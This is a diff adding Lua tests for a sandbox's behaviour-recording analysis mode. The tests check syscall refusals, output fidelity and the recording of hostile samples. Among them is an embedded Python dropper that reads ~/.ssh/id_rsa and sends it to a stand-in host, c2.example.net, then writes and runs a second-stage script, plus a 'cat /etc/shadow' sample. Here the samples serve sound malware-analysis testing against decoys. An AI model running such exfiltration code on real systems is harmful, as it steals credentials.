@@ -1,0 +1,330 @@
+-- The analysis box (profiles/watch.lua, run.lua --explore, batch.lua's
+-- default): it records everything and changes nothing.  Checked on real
+-- boxes: every call the default box refuses is refused here with the same
+-- errno and named the same way, in every mode; ordinary programs give the
+-- same output and status as in the default box; the hostile corpus's
+-- behaviour is all seen; a fileless exec runs and is seen.
+-- scripts/test.sh runs this file as root and as uid 65534.
+local S = require "support"
+local cjson = require "cjson"
+local profile = require "sbx.profile"
+
+local PROBE = "build/tests/sysprobe"
+local B = "build/tests/behave/"
+
+-- every sysprobe case, one a line, in one box: "CASE ANSWER"
+local function probe_all(...)
+	local cases = S.sh(PROBE .. " list")
+	local nr2 = profile and require("sbx.core").syscall_number("fchmodat2")
+	local script = { "for c in" }
+	for c in cases:gmatch("[^\n]+") do
+		if c:find("^fchmodat2") then c = c .. " " .. tostring(nr2) end
+		if c == "socket" then
+			for _, fam in ipairs { "0", "1", "2", "10", "16", "17", "40", "0x100000002" } do
+				script[#script + 1] = S.q("socket " .. fam)
+			end
+		else
+			script[#script + 1] = S.q(c)
+		end
+	end
+	script[#script + 1] = '; do printf "%s " "$c"; /work/sysprobe $c; done'
+	local argv = { ... }
+	for _, a in ipairs { "--ro", PROBE .. ":/work/sysprobe", "/bin/sh", "-c", table.concat(script, " ") } do
+		argv[#argv + 1] = a
+	end
+	return S.runlua(table.unpack(argv))
+end
+
+-- the report's refusal lines, sorted
+local function denied(report)
+	local out = {}
+	for l in report:gmatch("[^\n]+") do
+		if l:find("^sandbox: denied: ") then out[#out + 1] = l end
+	end
+	table.sort(out)
+	return out
+end
+
+describe("the watch profile's refusals [" .. S.priv .. "]", function()
+	S.leak_check(before_each, after_each, assert)
+
+	it("are the default box's, same errno and same report lines, in log and deny mode", function()
+		local out, err, code = probe_all()
+		assert.are.equal(0, code, err)
+		-- memfd_create is the one difference: allowed and watched
+		local want = out:gsub("memfd_create ENOSYS\n", "memfd_create EFAULT\n")
+		assert.are_not.equal(out, want, "the default box refuses memfd_create")
+		local want_denied = {}
+		for _, l in ipairs(denied(err)) do
+			if not l:find("memfd_create", 1, true) then want_denied[#want_denied + 1] = l end
+		end
+		assert.is_true(#want_denied > 60, err)
+		for _, mode in ipairs { "log", "deny" } do
+			local wout, werr, wcode = probe_all("--profile", "watch", "--mode", mode)
+			assert.are.equal(0, wcode, werr)
+			assert.are.equal(want, wout, mode)
+			assert.are.same(want_denied, denied(werr), mode)
+		end
+	end)
+
+	it("hold in stop mode: the first refusal ends the box, as in the default box", function()
+		for _, prof in ipairs { "default", "watch" } do
+			local out, err, code = S.runlua("--profile", prof, "--mode", "stop",
+				"--ro", PROBE .. ":/work/sysprobe", "/bin/sh", "-c",
+				"/work/sysprobe getpid; /work/sysprobe clone-newuser; echo after")
+			assert.are.equal(125, code, err)
+			assert.are.equal("ok\n", out, prof)
+			assert.matches("sandbox: refused: clone with namespace flags\n", err, nil, true)
+		end
+	end)
+
+	it("refuse a thread's clone that asks for a namespace, though threads are not watched", function()
+		-- CLONE_THREAD | CLONE_NEWUSER: the supervisor checks the rule's own
+		-- comparisons on the registers the notification carries
+		local out, err, code = S.runlua("--profile", "watch", PROBE, "clone-newuser-high")
+		assert.are.equal(0, code, err)
+		assert.are.equal("EPERM\n", out)
+		assert.matches("sandbox: denied: clone with namespace flags (EPERM)", err, nil, true)
+	end)
+end)
+
+-- a run with --explore (and more options) on argv: stdout, report, status,
+-- the JSON result
+local function explore(...)
+	local d, rm = S.tmpdir()
+	local argv = { "--explore", "--json", d .. "/r.json", ... }
+	local out, err, code = S.runlua(table.unpack(argv))
+	local text = S.read(d .. "/r.json")
+	rm()
+	return out, err, code, text and cjson.decode(text)
+end
+
+local function has(list, v)
+	for _, x in ipairs(list or {}) do
+		if x == v then return true end
+	end
+	return false
+end
+
+describe("the analysis box's fidelity [" .. S.priv .. "]", function()
+	S.leak_check(before_each, after_each, assert)
+
+	-- ordinary programs: the same stdout and status as in the default box
+	local PROGRAMS = {
+		{ "/bin/sh", "-c", "echo a; ls / | sort | head -3; printf 'x\\ny\\n' | wc -l; true" },
+		{ "/bin/sh", "-c", "cd /tmp && mkdir d && echo hi > d/f && cp d/f d/g && mv d/g d/h && "
+			.. "chmod 600 d/h && ln -s h d/l && rm d/f && ls -l d | cut -c1-10,30- | sort; exit 3" },
+		{ "/bin/sh", "-c", "cd /tmp && tar cf a.tar /etc/passwd 2>/dev/null && tar tf a.tar && "
+			.. "sha256sum a.tar | cut -c1-0 ; kill -0 $$ && echo alive; (sleep 0; exit 7); echo $?" },
+		{ "/usr/bin/python3", "-c", [[
+import os, socket, subprocess, threading, signal
+r = []
+t = [threading.Thread(target=lambda i=i: r.append(i * i)) for i in range(8)]
+[x.start() for x in t]; [x.join() for x in t]
+print(sorted(r))
+a, b = socket.socketpair(); a.sendall(b"ping"); print(b.recv(4))
+print(subprocess.run(["/bin/echo", "child"], capture_output=True).stdout)
+p = subprocess.Popen(["/bin/sleep", "30"]); p.send_signal(signal.SIGTERM); print(p.wait())
+os.umask(0o22); print(os.uname().sysname)
+]] },
+		{ "/usr/bin/git", "-c", "init.defaultBranch=main", "init", "-q", "/tmp/r" },
+	}
+
+	for i, argv in ipairs(PROGRAMS) do
+		it(("program %d: the same output and status as the default box"):format(i), function()
+			local out, err, code = S.runlua(table.unpack(argv))
+			local wout, werr, wcode, res = explore(table.unpack(argv))
+			assert.are.equal(code, wcode, err .. "\n---\n" .. werr)
+			assert.are.equal(out, wout)
+			assert.is_table(res, werr)
+			-- nothing refused, the behaviour recorded
+			assert.are.same({}, denied(werr))
+			assert.is_true(#res.behaviour.command_executions > 0)
+		end)
+	end
+
+	it("shows what the hostile corpus does", function()
+		local function run(name, ...)
+			local out, err, code, res = explore(B .. name, ...)
+			assert.are.equal(0, code, err)
+			return res.behaviour, res, out
+		end
+		local b = run("deleter")
+		assert.is_true(has(b.files_deleted, "/work/a.txt") and has(b.files_deleted, "/work/d"))
+		b = run("renamer")
+		assert.is_true(has(b.files_written, "/work/uno") and has(b.files_deleted, "/work/one"))
+		b = run("chmodder")
+		assert.is_true(has(b.files_attribute_changed, "/work/m1"))
+		b = run("xattrs")
+		assert.is_true(has(b.files_attribute_changed, "/work/x1"))
+		b = run("shadow")
+		assert.is_true(has(b.files_opened, "/etc/shadow") and has(b.tags, "decoy_read"))
+		b = run("forker")
+		assert.is_true(has(b.command_executions, "/bin/true two"))
+		-- DNS, TCP and UDP through the sink, each with its own protocol
+		b = run("beacon")
+		assert.are.same({ { hostname = "c2.evil.example", resolved_ips = { "10.0.0.2" } } }, b.dns_lookups)
+		local traffic = {}
+		for _, t in ipairs(b.ip_traffic) do
+			traffic[#traffic + 1] = ("%s %s:%d"):format(t.transport_layer_protocol, t.destination_ip,
+				math.tointeger(t.destination_port))
+		end
+		assert.is_true(has(traffic, "tcp 10.0.0.2:443"), table.concat(traffic, ","))
+		assert.is_true(has(traffic, "udp 10.0.0.2:8080"), table.concat(traffic, ","))
+		-- the namespace, mount and ptrace attempts are refused and named
+		local _, res = run("escaper")
+		assert.is_true(has(res.behaviour.calls_highlighted, "ptrace"))
+		assert.is_true(has(res.behaviour.tags, "namespaces"))
+	end)
+
+	it("lets a fileless exec run, and records the memfd and the exec from it", function()
+		local out, err, code, res = explore(B .. "fileless")
+		assert.are.equal(0, code, err)
+		assert.are.equal("", out)
+		local b = res.behaviour
+		assert.are.same({ "payload" }, b.memory_files)
+		assert.is_true(has(b.processes_created, "/memfd:payload (deleted)"), cjson.encode(b))
+		assert.is_true(has(b.command_executions, "/work/fileless again"))
+		-- the payload, hashed by the supervisor at the exec: the program's
+		-- own bytes (it copied itself)
+		assert.are.same({ { path = "/memfd:payload (deleted)", mode = "memfd", executed_from_memory = true,
+			size = #S.read(B .. "fileless"), sha256 = require("sbx.core").sha256(S.read(B .. "fileless")) } },
+			b.files_dropped)
+		-- the default box refuses memfd_create (ENOSYS, named)
+		local dout, derr, dcode = S.runlua(B .. "fileless")
+		assert.are.equal(0, dcode)
+		assert.matches("memfd_create: Function not implemented", dout .. derr, nil, true)
+	end)
+
+	it("records signals by name, and a unix socket is not IP traffic", function()
+		local _, err, code, res = explore("/usr/bin/python3", "-c", [[
+import os, signal, socket, subprocess
+p = subprocess.Popen(["/bin/sleep", "30"]); os.kill(p.pid, signal.SIGKILL); p.wait()
+s = socket.socket(socket.AF_UNIX); s.bind("/tmp/u.sock")
+c = socket.socket(socket.AF_UNIX)
+try: c.connect("/tmp/u.sock")
+except OSError: pass
+]])
+		assert.are.equal(0, code, err)
+		assert.is_true(has(res.behaviour.signals_observed, "SIGKILL"), cjson.encode(res.behaviour))
+		for _, t in ipairs(res.behaviour.ip_traffic) do
+			assert.is_nil(t.destination_ip:find("/", 1, true), t.destination_ip)
+		end
+	end)
+end)
+
+describe("run.lua --explore [" .. S.priv .. "]", function()
+	S.leak_check(before_each, after_each, assert)
+
+	local DROPPER = [[
+import os, socket
+key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
+addr = socket.gethostbyname("c2.example.net")
+s = socket.create_connection((addr, 443), timeout=5)
+s.sendall(key.encode()); s.close()
+with open("/tmp/stage2.sh", "w") as f: f.write("#!/bin/sh\necho stage2\n")
+os.chmod("/tmp/stage2.sh", 0o755)
+os.symlink("/tmp/stage2.sh", "/tmp/latest")
+os.system("/tmp/stage2.sh")
+print(os.uname().sysname)
+]]
+
+	it("on a dropper: its own output and status, and every step of it recorded", function()
+		local d, rm = S.tmpdir()
+		local f = assert(io.open(d .. "/sample.py", "w"))
+		f:write(DROPPER)
+		f:close()
+		S.sh("chmod 0644 " .. S.q(d .. "/sample.py"))
+		local args = { "--ro", d .. "/sample.py:/work/sample.py", "/usr/bin/python3", "/work/sample.py" }
+		local out, err, code, res = explore(table.unpack(args))
+		rm()
+		assert.are.equal(0, code, err)
+		assert.are.equal("stage2\nLinux\n", out)
+		local b = res.behaviour
+		assert.is_true(has(b.files_opened, "/work/.ssh/id_rsa"))
+		assert.matches("note: decoy ~/.ssh/id_rsa's marker found in tcp 10.0.0.2:443", err, nil, true)
+		assert.are.same({ { hostname = "c2.example.net", resolved_ips = { "10.0.0.2" } } }, b.dns_lookups)
+		local tcp = false
+		for _, t in ipairs(b.ip_traffic) do
+			tcp = tcp or (t.transport_layer_protocol == "tcp" and t.destination_ip == "10.0.0.2")
+		end
+		assert.is_true(tcp)
+		assert.is_true(has(b.command_executions, "sh -c /tmp/stage2.sh"))
+		local dropped
+		for _, x in ipairs(b.files_dropped) do
+			if x.path == "/tmp/stage2.sh" then dropped = x end
+		end
+		assert.are.equal("0755", dropped.mode)
+		assert.matches("^%x+$", dropped.sha256)
+		local link
+		for _, x in ipairs(res.files) do
+			if x.path == "/tmp/latest" then link = x end
+		end
+		assert.are.equal("link", link.type)
+		assert.are.equal("/tmp/stage2.sh", link.link)
+		assert.matches("^sha256:%x+$", b.behash)
+		-- the decoy's leak is an event with fields a rule can read
+		local leak
+		for _, e in ipairs(res.events) do
+			if e.cause == "decoy" then leak = e end
+		end
+		assert.are.same({ "~/.ssh/id_rsa", "/work/.ssh/id_rsa", "tcp 10.0.0.2:443" },
+			{ leak.decoy, leak.path, leak.where })
+		-- the verdict and its findings come after the behaviour
+		local at_b, at_v = err:find("behash ", 1, true), err:find("\nverdict: malicious", 1, true)
+		assert.is_true(at_b ~= nil and at_v ~= nil and at_b < at_v, err)
+		assert.is_true(has(b.mitre_attack_techniques, "T1105"), cjson.encode(b.mitre_attack_techniques))
+		-- the same program in the default box: the same output and status
+		local d2, rm2 = S.tmpdir()
+		f = assert(io.open(d2 .. "/sample.py", "w"))
+		f:write(DROPPER)
+		f:close()
+		S.sh("chmod 0644 " .. S.q(d2 .. "/sample.py"))
+		local dout, derr, dcode = S.runlua("--ro", d2 .. "/sample.py:/work/sample.py", "--net", "sink",
+			"--decoys", "/usr/bin/python3", "/work/sample.py")
+		rm2()
+		assert.are.equal(0, dcode, derr)
+		assert.are.equal(out, dout)
+	end)
+
+	it("lets an option typed beside it win", function()
+		local _, err, code, res = explore("--net", "none", "/bin/true")
+		assert.are.equal(0, code, err)
+		assert.is_nil(res.sink)
+		assert.matches("seccomp: profile watch", S.runlua("--explore", "-v", "/bin/true") and
+			select(2, S.runlua("--explore", "-v", "/bin/true")), nil, true)
+	end)
+end)
+
+describe("batch.lua's analysis box [" .. S.priv .. "]", function()
+	S.leak_check(before_each, after_each, assert)
+
+	it("tells cat /etc/shadow from echo by default, and --jail records nothing", function()
+		local d, rm = S.tmpdir()
+		for name, body in pairs { benign = "echo benign", shadow = "cat /etc/shadow" } do
+			local f = assert(io.open(d .. "/" .. name, "w"))
+			f:write("#!/bin/sh\n", body, "\n")
+			f:close()
+			S.sh("chmod 0755 " .. S.q(d .. "/" .. name))
+		end
+		local function batch(...)
+			local recs = {}
+			local out = S.sh(S.bin .. " batch.lua -q " .. table.concat({ ... }, " ") .. " " .. S.q(d) .. " 2>&1")
+			for l in out:gmatch("[^\n]+") do
+				local r = cjson.decode(l)
+				recs[r.program:match("[^/]+$")] = r
+			end
+			return recs
+		end
+		local r = batch()
+		assert.are.equal("clean", r.benign.verdict)
+		assert.are_not.equal("clean", r.shadow.verdict)
+		assert.are_not.equal(r.benign.run.behaviour.behash, r.shadow.run.behaviour.behash)
+		assert.is_true(has(r.shadow.run.behaviour.files_opened, "/etc/shadow"))
+		assert.is_true(#r.shadow.run.behaviour.mitre_attack_techniques > 0)
+		local j = batch("--jail")
+		assert.are.equal("clean", j.shadow.verdict)
+		assert.are.same({}, j.shadow.run.behaviour.files_opened)
+		rm()
+	end)
+end)
